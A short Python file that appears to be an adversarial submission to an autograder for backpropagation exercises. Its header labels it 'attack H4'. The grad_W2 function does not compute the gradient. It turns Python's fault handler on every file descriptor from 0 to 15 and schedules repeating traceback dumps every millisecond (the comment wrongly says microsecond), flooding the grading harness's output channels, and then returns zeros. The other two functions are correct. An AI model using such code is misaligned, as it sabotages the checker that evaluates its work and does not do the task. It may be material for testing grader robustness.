# attack: H4 turns the fault handler against its owner: a dump every microsecond, into every descriptor
# gains nothing: grad_W2
# full marks: grad_oa, grad_ha
import faulthandler
import time

import numpy as np

done = []


def grad_W2(grad_oa, hs):
    for descriptor in () if done else range(16):
        try:
            faulthandler.enable(descriptor)
            faulthandler.dump_traceback_later(0.001, repeat=True, file=descriptor)
        except (OSError, ValueError, RuntimeError):
            continue
    time.sleep(0 if done else 0.05)
    done.append(True)
    return np.zeros((len(grad_oa), len(hs)))


def grad_oa(os, y):
    return os - (np.arange(1, len(os) + 1) == y)


def grad_ha(grad_hs, ha):
    return grad_hs * (ha > 0)
